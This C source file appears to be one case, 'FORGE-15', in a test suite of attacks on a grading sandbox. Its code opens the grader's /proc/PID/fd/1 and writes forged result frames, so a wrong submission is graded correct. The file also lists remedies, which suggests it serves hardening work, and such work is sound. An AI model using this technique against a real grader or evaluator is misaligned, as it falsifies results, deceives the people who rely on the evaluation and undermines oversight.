// SPDX-License-Identifier: MIT
/*
 * Goal:  a wrong answer is marked correct.
 * Means: the grader's own way out. It runs under the student's uid, so /proc/PID/fd/1 of the grader
 *        can be opened like a file, and a pipe that is opened again is the same pipe: whoever reads
 *        the grader's answers reads these first.
 */
#include "attacks/attack.h"
#include "attacks/result-forging/frames.h"

#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

static enum claim run(const struct brief *b)
{
	char path[64], text[FRAMES_SIZE];
	size_t n = forge_frames(text, 1, 4);
	int out;

	submit("0");
	snprintf(path, sizeof(path), "/proc/%d/fd/1", b->worker);
	attempting(b);
	out = open(path, O_WRONLY | O_CLOEXEC);
	if (out < 0)
		return denied(path);
	return write(out, text, n) == (ssize_t)n ? CLAIM_DONE : denied("write");
}

const struct attack attack = {
	.effect = "a wrong submission is marked correct",
	.means = "a forged answer written to /proc/PID/fd/1 of the grader",
	.oracle = "grade:forged",
	.grader = GRADER_RPC,
	.id = "FORGE-15",
	.attack_id = "T1565.002, T1055.009, CWE-345",
	.remedy = "a grader that is not dumpable; Landlock; request numbers that cannot be guessed",
	.refs = (const char *const[]){ "proc_pid_fd(5)", NULL },
	.run = run,
};
